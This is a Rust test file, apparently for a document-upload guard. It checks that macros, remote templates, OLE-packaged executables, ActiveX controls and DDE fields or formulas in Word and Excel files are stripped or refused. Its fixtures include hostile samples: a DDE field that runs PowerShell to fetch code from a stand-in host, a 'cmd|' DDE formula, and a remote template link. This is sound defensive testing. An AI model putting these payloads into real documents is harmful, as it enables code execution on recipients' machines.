        let rels = text("word/_rels/document.xml.rels");
        assert!(
            rels.contains("styles.xml") && !rels.contains("vbaProject"),
            "{rels}"
        );
        let ct = text("[Content_Types].xml");
        assert!(!ct.contains("vba") && !ct.contains("macroEnabled"), "{ct}");
        assert!(ct.contains("wordprocessingml.document.main+xml"), "{ct}");
    }

    #[test]
    fn refuse_mode_and_a_document_inside_an_archive_refuse_the_macro() {
        let (r, out) = office_guard("refuse")
            .inspect_bytes(&docm(), "survey.docx", DOCM)
            .expect("no machine error");
        assert_rejected(&r, "disarm = \"refuse\"");
        assert!(out.is_none());
        let mut s = serde_json::json!({
            "allowed_types": [DOCM, "application/zip"],
            "archives": { "allowed": true, "formats": ["zip"] },
            "disarm": "strip",
        });
        s["archives"]["max_depth"] = serde_json::json!(2);
        let g = Guard::new(Profile::from_settings("import", &s, &common::lists).expect("profile"));
        let doc = docm();
        let z = zip(&[entry("survey.docx", &doc)]);
        let (r, out) = g
            .inspect_bytes(&z, "batch.zip", "application/zip")
            .expect("no machine error");
        assert_rejected(&r, "not inside an archive");
        assert!(out.is_none());
    }

    #[test]
    fn a_remote_template_is_refused_and_a_hyperlink_is_not() {
        let settings_rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.7/share/normal.dotm" TargetMode="External"/></Relationships>"#;
        let link_rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://portal.example/parcels" TargetMode="External"/></Relationships>"#;
        let ct = br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>"#;
        for mode in ["strip", "refuse"] {
            let doc = zip(&[
                entry("[Content_Types].xml", ct),
                entry("_rels/.rels", RELS),
                entry("word/document.xml", DOC),
                entry("word/_rels/settings.xml.rels", settings_rels),
            ]);
            let (r, out) = office_guard(mode)
                .inspect_bytes(&doc, "survey.docx", DOCM)
                .expect("no machine error");
            assert_rejected(&r, "external relationship of type `attachedTemplate`");
            assert_eq!(count(&r, "office_external"), 1, "{:#?}", r.findings);
            assert!(out.is_none());
            let json = serde_json::to_string(&r).expect("json");
            assert!(
                !json.contains("192.0.2.7"),
                "the target is in the report: {json}"
            );
        }
        let doc = zip(&[
            entry("[Content_Types].xml", ct),
            entry("_rels/.rels", RELS),
            entry("word/document.xml", DOC),
            entry("word/_rels/document.xml.rels", link_rels),
        ]);
        let (r, _) = office_guard("strip")
            .inspect_bytes(&doc, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
    }

    #[test]
    fn a_document_without_macros_passes_unchanged() {
        let clean = zip(&[
            entry("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>"#),
            entry("_rels/.rels", RELS),
            entry("word/document.xml", DOC),
        ]);
        let (r, out) = office_guard("strip")
            .inspect_bytes(&clean, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
        assert!(out.is_none());
    }

    const OLE_CT: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default Extension="png" ContentType="image/png"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>"#;
    const OLE_DOC_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId4" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/><Relationship Id="rId6" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/><Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="activeX/activeX1.xml"/></Relationships>"#;
    /// Word's markup for a packaged program shown as an icon (the VML
    /// shape carries the preview picture) and a command button.
    const OLE_DOC: &[u8] = br##"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body><w:p><w:r><w:t>Parcel survey, see attachment:</w:t></w:r></w:p><w:p><w:r><w:object w:dxaOrig="1520" w:dyaOrig="960"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:48pt" o:ole=""><v:imagedata r:id="rId4" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1789" r:id="rId5"/></w:object></w:r></w:p><w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="360"><v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:72pt;height:18pt" o:ole=""><v:imagedata r:id="rId6" o:title=""/></v:shape><w:control r:id="rId7" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p></w:body></w:document>"##;
    const AX_XML: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>"#;
    const AX_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="activeX1.bin"/></Relationships>"#;

    /// An OLE compound file holding a packaged executable.
    fn ole_package() -> Vec<u8> {
        let mut v = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
        v.extend_from_slice(&[0; 504]);
        v.extend_from_slice(
            b"\x01Ole10Native\0payload.exe\0MZ\x90\0This program cannot be run in DOS mode",
        );
        v
    }

    fn docx_with_objects(ole: &[u8], ax_bin: &[u8], png: &[u8]) -> Vec<u8> {
        let body = |name: &'static str, data: &'static [u8]| entry(name, data);
        zip(&[
            body("[Content_Types].xml", OLE_CT),
            body("_rels/.rels", RELS),
            body("word/document.xml", OLE_DOC),
            body("word/_rels/document.xml.rels", OLE_DOC_RELS),
            entry("word/media/image1.png", png),
            entry("word/embeddings/oleObject1.bin", ole),
            body("word/activeX/activeX1.xml", AX_XML),
            body("word/activeX/_rels/activeX1.xml.rels", AX_RELS),
            entry("word/activeX/activeX1.bin", ax_bin),
        ])
    }

    fn object_guard(disarm: &str, ty: &str) -> Guard {
        let s = serde_json::json!({
            "allowed_types": [ty, "image/png", "text/*"],
            "disarm": disarm,
        });
        Guard::new(Profile::from_settings("import", &s, &common::lists).expect("profile"))
    }

    /// Every `r:id`-style reference of every XML part resolves to a
    /// relationship of that part (what Word checks before it calls a file
    /// damaged); checked by Python's XML parser, which also proves every
    /// part is well-formed.
    fn references_resolve(dir: &Path, data: &[u8]) -> Option<()> {
        let f = dir.join("refs.docx");
        std::fs::write(&f, data).expect("write");
        let script = r#"
import sys, zipfile, posixpath
import xml.etree.ElementTree as ET
R = '{http://schemas.openxmlformats.org/officeDocument/2006/relationships}'
z = zipfile.ZipFile(sys.argv[1])
names = set(z.namelist())
for n in names:
    if not (n.endswith('.xml') or n.endswith('.rels')):
        continue
    root = ET.fromstring(z.read(n))
    d, b = posixpath.split(n)
    rels = posixpath.join(d, '_rels', b + '.rels')
    ids = set()
    if rels in names:
        for rel in ET.fromstring(z.read(rels)):
            ids.add(rel.get('Id'))
            if rel.get('TargetMode') != 'External':
                t = posixpath.normpath(posixpath.join(d, rel.get('Target')))
                assert t in names, (rels, t)
    for el in root.iter():
        for k, v in el.attrib.items():
            if k.startswith(R):
                assert v in ids, (n, el.tag, k, v)
print('ok')
"#;
        let out = Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(&f)
            .output()
            .ok()?;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        Some(())
    }

    #[test]
    fn ole_objects_and_activex_controls_are_cut_out_of_a_word_document_and_the_pictures_stay() {
        const T: &str =
            "ole_objects_and_activex_controls_are_cut_out_of_a_word_document_and_the_pictures_stay";
        let png = common::png();
        let original = docx_with_objects(&ole_package(), b"\x01\x02ActiveX stream", &png);
        let g = object_guard("strip", DOCM);
        let (r, out) = g
            .inspect_bytes(&original, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
        assert_eq!(count(&r, "office_ole"), 1, "{:#?}", r.findings);
        assert_eq!(count(&r, "office_activex"), 3, "{:#?}", r.findings);
        let out = out.expect("stripped copy");
        // The stripped document passes the guard's own reader again.
        let (again, copy) = g
            .inspect_bytes(&out, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(again.verdict, Verdict::Pass, "{:#?}", again.reasons);
        assert!(copy.is_none());

        let dir = tempfile::tempdir().expect("tempdir");
        let Some(parts) = python_read(dir.path(), &out) else {
            skip(
                T,
                "python3 not found: the independent readers' checks did not run",
            );
            return;
        };
        // Sorted, as above (serde_json's `preserve_order`).
        let mut names: Vec<&String> = parts.as_object().expect("object").keys().collect();
        names.sort();
        assert_eq!(
            names,
            [
                "[Content_Types].xml",
                "_rels/.rels",
                "word/_rels/document.xml.rels",
                "word/document.xml",
                "word/media/image1.png"
            ],
        );
        // Read decompressed: nothing of the objects is left in any part.
        for (name, text) in parts.as_object().expect("object") {
            let text = text.as_str().expect("text");
            for gone in [
                "This program cannot be run",
                "ActiveX stream",
                "OLEObject",
                "w:control",
            ] {
                assert!(!text.contains(gone), "{gone} left in {name}");
            }
        }
        let body = parts["word/document.xml"].as_str().expect("text");
        // The preview pictures stay where the objects were.
        assert_eq!(body.matches("<v:imagedata r:id=").count(), 2, "{body}");
        assert!(body.contains("Parcel survey, see attachment:"), "{body}");
        let ct = parts["[Content_Types].xml"].as_str().expect("text");
        assert!(!ct.contains("activeX1"), "{ct}");
        assert!(references_resolve(dir.path(), &out).is_some());
    }

    #[test]
    fn ole_objects_are_refused_in_refuse_mode_in_spreadsheets_and_inside_archives() {
        let png = common::png();
        let doc = docx_with_objects(&ole_package(), b"ax", &png);
        let (r, out) = object_guard("refuse", DOCM)
            .inspect_bytes(&doc, "survey.docx", DOCM)
            .expect("no machine error");
        assert_rejected(&r, "embedded OLE object (it can carry any program) in an office document: the profile sets disarm = \"refuse\"");
        assert!(out.is_none());

        const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
        let ole = ole_package();
        let sheet = zip(&[
            entry("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#),
            entry("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#),
            entry("xl/workbook.xml", br#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"#),
            entry("xl/embeddings/oleObject1.bin", &ole),
        ]);
        let (r, out) = object_guard("strip", XLSX)
            .inspect_bytes(&sheet, "parcels.xlsx", XLSX)
            .expect("no machine error");
        assert_rejected(&r, "from Word documents only");
        assert_eq!(count(&r, "office_ole"), 1, "{:#?}", r.findings);
        assert!(out.is_none());

        let s = serde_json::json!({
            "allowed_types": [DOCM, "image/png", "application/zip"],
            "archives": { "allowed": true, "formats": ["zip"], "max_depth": 2 },
            "disarm": "strip",
        });
        let g = Guard::new(Profile::from_settings("import", &s, &common::lists).expect("profile"));
        let z = zip(&[entry("survey.docx", &doc)]);
        let (r, out) = g
            .inspect_bytes(&z, "batch.zip", "application/zip")
            .expect("no machine error");
        assert_rejected(&r, "not inside an archive");
        assert!(out.is_none());
    }

    #[test]
    fn dde_fields_and_dde_formulas_are_refused_and_never_quoted() {
        let dde_doc = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\Windows\\System32\\cmd.exe "/k powershell -c iwr http://192.0.2.9/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Parcel</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
        for mode in ["strip", "refuse"] {
            let doc = zip(&[
                entry("[Content_Types].xml", CT),
                entry("_rels/.rels", RELS),
                entry("word/document.xml", dde_doc),
            ]);
            let (r, out) = office_guard(mode)
                .inspect_bytes(&doc, "survey.docx", DOCM)
                .expect("no machine error");
            assert_rejected(&r, "member word/document.xml: a DDE field");
            assert_eq!(count(&r, "office_dde"), 1, "{:#?}", r.findings);
            assert!(out.is_none());
            let json = serde_json::to_string(&r).expect("json");
            assert!(
                !json.contains("powershell") && !json.contains("192.0.2.9"),
                "{json}"
            );
        }
        const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
        let s = serde_json::json!({ "allowed_types": [XLSX], "disarm": "strip" });
        let g = Guard::new(Profile::from_settings("import", &s, &common::lists).expect("profile"));
        let book = |sheet: &[u8]| {
            zip(&[
                entry("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#),
                entry("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#),
                entry("xl/workbook.xml", br#"<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"#),
                entry("xl/worksheets/sheet1.xml", sheet),
            ])
        };
        let evil = book(br#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData></worksheet>"#);
        let (r, out) = g
            .inspect_bytes(&evil, "parcels.xlsx", XLSX)
            .expect("no machine error");
        assert_rejected(&r, "a cell formula with a DDE reference");
        assert!(out.is_none());
        let fine = book(br#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)&amp;"a|b"</f><v>0</v></c></row></sheetData></worksheet>"#);
        let (r, _) = g
            .inspect_bytes(&fine, "parcels.xlsx", XLSX)
            .expect("no machine error");
        assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
    }
}
